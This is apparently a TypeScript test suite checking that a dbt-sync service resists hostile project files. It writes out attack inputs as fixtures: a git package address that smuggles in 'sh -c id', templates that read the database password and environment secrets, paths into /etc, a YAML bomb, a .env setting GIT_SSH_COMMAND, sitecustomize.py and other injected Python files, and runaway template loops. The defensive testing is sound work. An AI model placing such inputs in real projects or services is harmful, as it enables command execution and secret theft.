import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { dbtCommand, deadlineMs, gitIn } from '@plinth/testing';
import { DbtSyncs, shopProject, type Place } from '../testing/dbt-syncs';
import { startFixture, type Fixture } from '../testing/fixture';

const command = dbtCommand();
const PASSWORD = 'the-password-of-the-warehouse';
/** Enough for dbt to begin, and no more, since a processor burns for all of it. */
const LIMIT_S = Math.min(15, Math.ceil(deadlineMs(6_000) / 1_000));
const CANARY = 'canary-of-this-machine';
let folder: string;
let platform: Fixture;
const syncs = new DbtSyncs(
  () => platform,
  () => folder,
);
const project = shopProject['dbt_project.yml'] ?? '';

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'plinth-dbt-'));
  writeFileSync(join(folder, 'canary.sql'), `select '${CANARY}' as id`);
  platform = await startFixture(
    ['worker-1'],
    { PLINTH_DBT_COMMAND: command ?? '/nowhere', PLINTH_DBT_TIMEOUT_MS: '60000' },
    undefined,
    { CUBEJS_DB_TYPE: 'postgres', CUBEJS_DB_PASS: PASSWORD, PICKED: 'picked-value', OTHER: 'other-value' },
  );
});
afterAll(async () => {
  await platform?.stop();
  rmSync(folder, { recursive: true, force: true });
});

/** Everything that a run has left for people to read. */
async function traces(place: Place, syncJobId: string): Promise<string> {
  const path = { ...place.path, syncJobId };
  const files = await platform.call(place.admin, 'getDbtSyncGeneratedFiles', { path }).catch(() => null);
  const { items } = await platform.call(place.admin, 'listDbtSyncs', { path: place.path });
  return JSON.stringify([files, items, await syncs.log(place, syncJobId), platform.logged()]);
}

const described = (text: string): Record<string, string> => ({
  ...shopProject,
  'models/schema.yml': `models: [{ name: orders, description: ${JSON.stringify(text)} }]`,
});

describe('a project that dbt never sees', () => {
  const cases: [string, Record<string, string>, RegExp][] = [
    [
      'has folders of the machine',
      { 'dbt_project.yml': `${project}macro-paths: ["/etc"]\n` },
      /leads out of the project/,
    ],
    ['has folders beside it', { 'dbt_project.yml': `${project}seed-paths: ["../x"]\n` }, /leads out of the project/],
    ['writes elsewhere', { 'dbt_project.yml': `${project}target-path: /tmp/x\n` }, /leads out of the project/],
    ['has a local package beside it', { 'packages.yml': 'packages: [{ local: ../other }]' }, /outside of the project/],
    ['has a package of the machine', { 'packages.yml': 'packages: [{ local: /etc }]' }, /outside of the project/],
    [
      'has a package with a secret in its address',
      {
        'packages.yml': `packages: [{ git: "https://{{ env_var('CUBEJS_DB_PASS') }}@x.example/y.git" }]`,
      },
      /is a template/,
    ],
    ['has a package by a program', { 'packages.yml': 'packages: [{ git: "ext::sh -c id" }]' }, /address|protocol|git/i],
    [
      'has a package of no exact version',
      { 'packages.yml': 'packages: [{ package: a/b, version: ">1" }]' },
      /exact version/,
    ],
    [
      'has more packages than there are',
      {
        'packages.yml': `packages: [${Array.from({ length: 51 }, () => '{ local: x }').join()}]`,
      },
      /more than 50 packages/,
    ],
    [
      'is a bomb of YAML',
      {
        'dbt_project.yml': `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from({ length: 9 }, (_none, at) => {
          const name = String.fromCharCode(98 + at);
          const former = String.fromCharCode(97 + at);
          return `${name}: &${name} [${Array.from({ length: 9 }, () => `*${former}`).join()}]`;
        }).join('\n')}\n${project}`,
      },
      /no YAML/,
    ],
    ['is none', { 'dbt_project.yml': '[]' }, /does not name the project/],
  ];
  it.each(cases)('%s: it fails, and says why', async (_case, files, message) => {
    const place = await syncs.connected({ ...shopProject, ...files });
    const { status, error } = await syncs.sync(place);
    expect(status).toBe('FAILED');
    expect(error).toMatch(command === undefined ? /pip install/ : message);
    expect(await syncs.branches(place)).toEqual(['main']);
  });
});

(command === undefined ? describe.skip : describe)('a project that dbt reads', () => {
  it('reads no secret, and only the variables that were picked', async () => {
    const text = ['CUBEJS_DB_PASS', 'PICKED', 'OTHER', 'PLINTH_DATABASE_URL', 'HOME', 'PATH']
      .map((name) => `${name}={{ env_var('${name}', 'nothing') }}`)
      .join(' ');
    const place = await syncs.connected(described(text), { variables: ['PICKED'] });
    const { status, error, syncJobId } = await syncs.sync(place, { output: 'files' });
    expect({ status, error }).toEqual({ status: 'COMPLETED', error: null });
    const left = await traces(place, syncJobId);
    expect(left).toContain('CUBEJS_DB_PASS=[ENCRYPTED] PICKED=picked-value OTHER=nothing PLINTH_DATABASE_URL=nothing');
    expect(left).not.toContain(PASSWORD);
  });

  it('runs no query, and reads no file by one', async () => {
    const macro = `{% macro peek() %}{% set rows = run_query("select * from read_text('${join(folder, 'canary.sql')}')") %}{{ rows }}{% endmacro %}`;
    const place = await syncs.connected(
      { ...shopProject, 'macros/peek.sql': macro, 'models/orders.sql': 'select 1 as id {{ peek() }}' },
      { adapter: 'duckdb' },
    );
    const { syncJobId } = await syncs.sync(place, { output: 'files' });
    expect(await traces(place, syncJobId)).not.toContain(CANARY);
  });

  it('has no links, wherever they lead', async () => {
    const place = await syncs.connected(shopProject);
    const oid = gitIn(place.upstream.directory, ['hash-object', '-w', '--stdin'], join(folder, 'canary.sql'));
    const main = place.upstream.head('main') ?? '';
    gitIn(
      place.upstream.directory,
      ['fast-import', '--quiet', '--date-format=now', '--force'],
      `commit refs/heads/main\ncommitter G <g@example.com> now\ndata 1\nx\nfrom ${main}\nM 120000 ${oid} models/link.sql\n\n`,
    );
    const { status, error, syncJobId } = await syncs.sync(place, { output: 'files' });
    expect({ status, error }).toEqual({ status: 'COMPLETED', error: null });
    const left = await traces(place, syncJobId);
    expect(left).toMatch(/1 symbolic links are left out/);
    expect(left).not.toContain(CANARY);
    expect(left).not.toContain('link.yml');
  });

  it('is not led by a .env of its own, nor by modules of its own', async () => {
    const files = {
      ...described('{{ env_var("FROM_ENV", "nothing") }}'),
      '.env': 'FROM_ENV=loaded\nGIT_SSH_COMMAND=touch /tmp/pwned',
      'dbt_evil.py': `open(${JSON.stringify(join(folder, 'pwned'))}, 'w').write('x')`,
      'sitecustomize.py': `open(${JSON.stringify(join(folder, 'pwned'))}, 'w').write('x')`,
    };
    const place = await syncs.connected(files);
    const { status, error, syncJobId } = await syncs.sync(place, { output: 'files' });
    expect({ status, error }).toEqual({ status: 'COMPLETED', error: null });
    expect(await traces(place, syncJobId)).not.toContain('loaded');
    expect(existsSync(join(folder, 'pwned'))).toBe(false);
  });

  it('uses packages of the project and of public repositories', async () => {
    const { upstream } = await syncs.connected({
      'dbt_project.yml': 'name: shared\nversion: "1.0"\n',
      'macros/one.sql': '{% macro one() %}1{% endmacro %}',
    });
    const place = await syncs.connected({
      ...shopProject,
      'packages.yml': `packages:\n  - local: inner\n  - git: "file://${upstream.directory}"\n    revision: main\n`,
      'inner/dbt_project.yml': 'name: inner\nversion: "1.0"\n',
      'inner/macros/two.sql': '{% macro two() %}2{% endmacro %}',
      'models/orders.sql': 'select {{ shared.one() }} as id, {{ inner.two() }} as b',
    });
    const { status, error, syncJobId } = await syncs.sync(place, { output: 'files' });
    expect({ status, error }).toEqual({ status: 'COMPLETED', error: null });
    expect(await syncs.log(place, syncJobId)).toMatch(/Package inner[^]*Package shared/);
  });
});

(command === undefined ? describe.skip : describe)('endless work', () => {
  let impatient: Fixture;
  beforeAll(async () => {
    impatient = platform;
    platform = await startFixture(['worker-1'], {
      PLINTH_DBT_COMMAND: command ?? '',
      PLINTH_DBT_TIMEOUT_MS: String(1_000 * LIMIT_S),
    });
  });
  afterAll(async () => {
    await platform.stop();
    platform = impatient;
  });

  it('of a template ends by the limit, and leaves nothing behind', async () => {
    const loops = '{% for a in range(99999) %}'.repeat(4) + 'x' + '{% endfor %}'.repeat(4);
    const place = await syncs.connected({
      ...shopProject,
      'models/orders.sql': `{% set x %}${loops}{% endset %} {{ ref('customers') }}`,
    });
    const { status, error } = await syncs.sync(place);
    expect(status).toBe('FAILED');
    expect(error).toMatch(new RegExp(`within ${LIMIT_S} seconds|more memory`));
    expect(await syncs.branches(place)).toEqual(['main']);
    const repository = await platform.repositoryOf(place.admin, place.path.deploymentId);
    expect(readdirSync(repository.directory).filter((name) => name.startsWith('incoming-'))).toEqual([]);
  });
});
